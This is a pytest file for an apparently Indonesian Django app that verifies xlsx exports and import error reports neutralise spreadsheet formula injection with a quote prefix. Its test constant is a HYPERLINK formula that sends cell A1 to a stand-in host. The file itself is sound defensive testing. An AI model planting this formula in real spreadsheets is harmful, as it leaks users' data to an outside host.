"""No text written to an xlsx is ever a live formula: cells starting with =, +, -, @, tab or CR
are text with Excel's quote prefix; numbers and dates stay real cells (docs/security.md, Input)."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ekspor import xlsx
from ppks import impor
from tests import factories as f

from ..ppks.test_ekspor import baca, minta

JAHAT = '=HYPERLINK("http://x?x="&A1,"Klik")'
AWALAN = [JAHAT, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _buka(isi: bytes):
    return load_workbook(io.BytesIO(isi))


@pytest.mark.parametrize("teks", AWALAN)
def test_daftar_xlsx_menetralkan_rumus(teks):
    kolom = [
        xlsx.Kolom("Nama"),
        xlsx.Kolom("Jumlah", "rupiah"),
        xlsx.Kolom("Tanggal", "tanggal"),
        xlsx.Kolom("No", "angka"),
    ]
    buf = io.BytesIO()
    xlsx.daftar_xlsx("Uji", kolom, [[teks, Decimal("1500"), dt.date(2025, 1, 2), -3]], buf)
    ws = _buka(buf.getvalue()).active
    nama, jumlah, tanggal, no = ws[2]
    # XML turns a CR into LF on reading; the point is the type and the prefix.
    assert nama.data_type == "s" and nama.value == teks.replace("\r", "\n") and nama.quotePrefix
    assert jumlah.data_type == "n" and jumlah.value == 1500
    assert tanggal.is_date and tanggal.value.date() == dt.date(2025, 1, 2)
    assert no.data_type == "n" and no.value == -3


def test_teks_biasa_tanpa_awalan_kutip():
    buf = io.BytesIO()
    xlsx.daftar_xlsx("Uji", [xlsx.Kolom("Nama")], [["Sumarno - Pacitan"]], buf)
    c = _buka(buf.getvalue()).active["A2"]
    assert c.value == "Sumarno - Pacitan" and not c.quotePrefix


@pytest.mark.django_db
def test_ekspor_registri_nama_rumus_bukan_rumus(client_for, users, wil):
    f.buat_orang(desa=wil["desa1"], nama=JAHAT)
    c = client_for(users["petugas"])
    baris = baca(c, minta(c))
    judul = baris[0]
    assert JAHAT in [r[judul.index("Nama")] for r in baris[1:]]
    # baca() reads with formulas kept: a live formula would come back as "=HYPERLINK" text too,
    # so check the cell's type in the file itself.
    e = c.get(reverse("ekspor:unduh", args=[_ekspor_terakhir()]))
    ws = _buka(b"".join(e.streaming_content)).active
    for deret in ws.iter_rows():
        for sel in deret:
            assert sel.data_type != "f", sel.coordinate


def _ekspor_terakhir() -> int:
    from ekspor.models import Ekspor

    return Ekspor.objects.latest("pk").pk


@pytest.mark.django_db
def test_laporan_galat_impor_menetralkan_sel_unggahan():
    tabel = impor.Tabel(
        jenis="xlsx", kolom={}, baris=[(2, [JAHAT, 5, "-1"])], judul=["=A1", "Jumlah", "RT"]
    )
    ws = _buka(impor.laporan_galat_xlsx([(2, "Nama", "@galat")], tabel)).active
    for deret in ws.iter_rows():
        for sel in deret:
            assert sel.data_type != "f", sel.coordinate
    assert ws["C1"].value == "=A1" and ws["C2"].value == JAHAT and ws["D2"].value == 5
    assert ws["D2"].data_type == "n"
